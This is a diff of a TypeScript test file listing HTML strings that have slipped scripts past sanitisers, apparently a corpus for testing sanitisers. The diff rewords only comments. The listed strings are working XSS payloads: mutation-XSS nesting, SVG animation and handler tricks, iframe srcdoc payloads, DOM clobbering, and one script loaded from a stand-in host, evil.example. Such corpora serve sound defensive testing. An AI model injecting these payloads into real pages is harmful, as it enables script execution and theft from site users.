@@ -1,4 +1,4 @@
-/** Ways that have made sanitisers let script through; each calls `hurt` where it runs. */
+/** HTML with which sanitisers have let scripts through; each script calls `hurt`. */
 export const vectors: readonly string[] = [
   '<script>hurt(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
@@ -87,7 +87,7 @@ export const vectors: readonly string[] = [
   '<\u0000script>hurt(1)</script>',
   '<<script>hurt(1)//<</script>',
   '<p/onclick=hurt(1)/title=x>x',
-  // How browsers mend what is nested wrongly, so that a second parsing sees other elements.
+  // Wrong nesting that browsers repair, so that a second parsing finds other elements.
   '<math><mtext><table><mglyph><style><math href="javascript:hurt(1)">x</math></style></mglyph></table></mtext></math>',
   '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=hurt(1)>"></style></h1>',
   '<svg><desc><style><!--</style><img src=x onerror=hurt(1)>--></style></desc></svg>',
@@ -127,7 +127,7 @@ export const vectors: readonly string[] = [
   '</ ><img src=x onerror=hurt(1)>',
   '<?php echo 1 ?><img src=x onerror=hurt(1)>',
   '<%<img src=x onerror=hurt(1)>%>',
-  // SVG and what it can animate, use and link.
+  // SVG with animations, `use` and links.
   '<svg><a><animate attributeName=href values=javascript:hurt(1) /><text y=20>x</text></a></svg>',
   '<svg><set attributeName=onmouseover to=hurt(1)></set><rect width=99 height=99></rect></svg>',
   '<svg><discard onbegin=hurt(1)></discard></svg>',
@@ -138,7 +138,7 @@ export const vectors: readonly string[] = [
   '<svg><handler type="text/javascript">hurt(1)</handler></svg>',
   '<svg><foreignObject><body onload=hurt(1)><img src=x onerror=hurt(1)></foreignObject></svg>',
   '<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:hurt(1)"><text y=9>x</text></a></svg>',
-  // Frames, plugins, what loads and what navigates.
+  // Frames, plugins, loading and navigation.
   '<iframe src="data:text/html,<script>top.hurt(1)</script>"></iframe>',
   '<iframe srcdoc="<img src=x onerror=parent.hurt(1)>" sandbox="allow-scripts allow-same-origin"></iframe>',
   '<iframe srcdoc="&#60;svg/onload&#61;parent.hurt(1)&#62;"></iframe>',
@@ -174,7 +174,7 @@ export const vectors: readonly string[] = [
   '<dialog open onclose=hurt(1)><form method=dialog><button>x</button></form></dialog>',
   '<button popovertarget=p onclick=hurt(1)>x</button><p popover id=p onbeforetoggle=hurt(1)>x</p>',
   '<keygen autofocus onfocus=hurt(1)><fieldset autofocus tabindex=0 onfocus=hurt(1)>x</fieldset>',
-  // Names that take the place of the page's own.
+  // Names that replace the page's own (DOM clobbering).
   '<form name=body><input name=firstChild></form><img name=querySelector src=/a.png>',
   '<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href="javascript:hurt(1)">x</a>',
   '<form id=document><input name=cookie></form><iframe name=self></iframe><img id=currentScript src=/a.png>',
